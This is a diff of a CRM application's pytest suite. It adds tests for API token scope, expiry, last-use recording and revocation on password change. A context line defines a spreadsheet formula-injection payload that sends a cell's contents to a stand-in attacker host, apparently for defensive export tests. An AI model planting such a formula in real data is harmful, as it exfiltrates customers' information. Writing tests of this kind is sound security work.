@@ -8,7 +8,7 @@ import pytest
 
 from crmcore.testing import make_customer
 
-from .conftest import login
+from .conftest import PASSWORD, bearer, login
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C2,"open")'
 
@@ -115,3 +115,90 @@ def test_forgetting_a_customer_drops_their_pending_leads(client, crm_app, crm_cl
     held_lead(client, crm_app, name="مریم", phone="09121234567", email="maryam@example.ir")
     assert crm_cli("customers", "forget", str(cid), "--yes").exit_code == 0
     assert crm_cli("customers", "leads", "list", "--json").json() == []
+
+
+# --- hole 3: token scope, expiry, last use, password change ----------------------------------------
+def make_token(app, username: str, name: str, level: str, expires=None) -> str:
+    from crmcore.web.users import create_token
+
+    with app.unit_of_work(actor="setup") as uow:
+        return create_token(uow, username, name, level=level, expires=expires)[1]
+
+
+def test_a_read_token_neither_makes_nor_revokes_tokens(client, users, crm_app):
+    read = make_token(crm_app, "admin", "reporting", "read")
+    refused = client.post("/api/tokens", json={"name": "spare", "level": "read"}, headers=bearer(read))
+    assert refused.status_code == 403
+    assert refused.json()["error"] == ("the token 'reporting' has read access; creating or revoking tokens needs "
+                                       "a login or an admin-level token")
+    assert client.delete("/api/tokens/tests", headers=bearer(read)).status_code == 403
+    assert client.post("/account/tokens", data={"name": "spare"}, headers=bearer(read)).status_code == 403
+    assert client.post("/account/tokens/tests/revoke", headers=bearer(read)).status_code == 403
+    assert client.get("/api/me", headers=bearer(users["admin"])).status_code == 200  # still working
+    names = [t["name"] for t in client.get("/api/tokens", headers=bearer(read)).json()]
+    assert names == ["tests", "reporting"]
+    made = client.post("/api/tokens", json={"name": "spare", "level": "read"}, headers=bearer(users["admin"]))
+    assert made.status_code == 201 and made.json()["token"].startswith("crm_")
+    assert client.delete("/api/tokens/spare", headers=bearer(users["admin"])).status_code == 204
+
+
+def test_a_refusal_names_the_tokens_level_not_the_users_role(client, users, crm_app):
+    read = make_token(crm_app, "admin", "reporting", "read")
+    refused = client.post("/api/customers", json={"name": "نگار"}, headers=bearer(read))
+    assert refused.status_code == 403
+    assert refused.json()["error"] == "the token 'reporting' of admin has read access: this needs write access"
+    assert "(admin)" not in refused.json()["error"]
+
+
+def test_tokens_expire(client, users, crm_app, crm_cli):
+    week = client.post("/api/tokens", json={"name": "week", "expires": "7d"}, headers=bearer(users["admin"]))
+    assert week.status_code == 201 and week.json()["expires_at"].startswith("2025-")
+    secret = week.json()["token"]
+    made = crm_cli("users", "token", "create", "agent", "sync", "--expires", "90d")
+    assert made.exit_code == 0 and "until" in made.stderr
+    bad = crm_cli("users", "token", "create", "agent", "x", "--expires", "soon")
+    assert bad.exit_code == 1 and "field expires" in bad.stderr and "Traceback" not in bad.stderr
+    too_long = client.post("/api/tokens", json={"name": "x", "expires": "5000w"}, headers=bearer(users["admin"]))
+    assert too_long.status_code == 422 and too_long.json()["field"] == "expires"
+    assert client.get("/api/me", headers=bearer(secret)).status_code == 200
+    crm_app.clock.advance(days=8)
+    assert client.get("/api/me", headers=bearer(secret)).status_code == 401
+    assert client.get("/api/me", headers=bearer(made.stdout.strip())).status_code == 200
+    states = {t["name"]: t["state"] for t in crm_cli("users", "token", "list", "admin", "--json").json()}
+    assert states == {"tests": "active", "week": "expired"}
+
+
+def test_last_use_is_recorded_and_shown(client, users, crm_app, crm_cli):
+    assert crm_cli("users", "token", "list", "agent", "--json").json()[0]["last_used_at"] is None
+    assert client.get("/api/me", headers=bearer(users["agent"])).status_code == 200
+    [row] = crm_cli("users", "token", "list", "agent", "--json").json()
+    assert row["last_used_at"] == crm_app.clock().isoformat()
+    text = crm_cli("users", "token", "list", "agent").stdout
+    assert "last used never" not in text and "{" not in text
+    login(client, "agent")
+    assert 'data-token="tests"' in client.get("/account").text
+
+
+def test_a_new_password_revokes_every_token(client, users, crm_app, crm_cli):
+    second = make_token(crm_app, "agent", "second", "read")
+    assert client.get("/api/me", headers=bearer(second)).status_code == 200
+    changed = crm_cli("users", "passwd", "agent", "--password-stdin", input="another long password\n")
+    assert changed.exit_code == 0
+    for secret in (users["agent"], second):
+        assert client.get("/api/me", headers=bearer(secret)).status_code == 401
+    assert client.get("/api/me", headers=bearer(users["viewer"])).status_code == 200
+    csrf = login(client, "viewer")
+    client.post("/account/password", data={"current": PASSWORD, "new": "a brand new password",
+                                            "csrf_token": csrf})
+    assert client.get("/api/me", headers=bearer(users["viewer"])).status_code == 401
+
+
+def test_every_token_of_a_user_is_revoked_at_once(client, users, crm_app, crm_cli):
+    second = make_token(crm_app, "manager", "second", "read")
+    done = crm_cli("users", "token", "revoke", "--all", "manager")
+    assert done.exit_code == 0 and done.stdout.strip() == "2 tokens of manager revoked"
+    for secret in (users["manager"], second):
+        assert client.get("/api/me", headers=bearer(secret)).status_code == 401
+    assert client.get("/api/me", headers=bearer(users["admin"])).status_code == 200
+    both = crm_cli("users", "token", "revoke", "--all", "manager", "second")
+    assert both.exit_code == 2 and "not both" in both.stderr
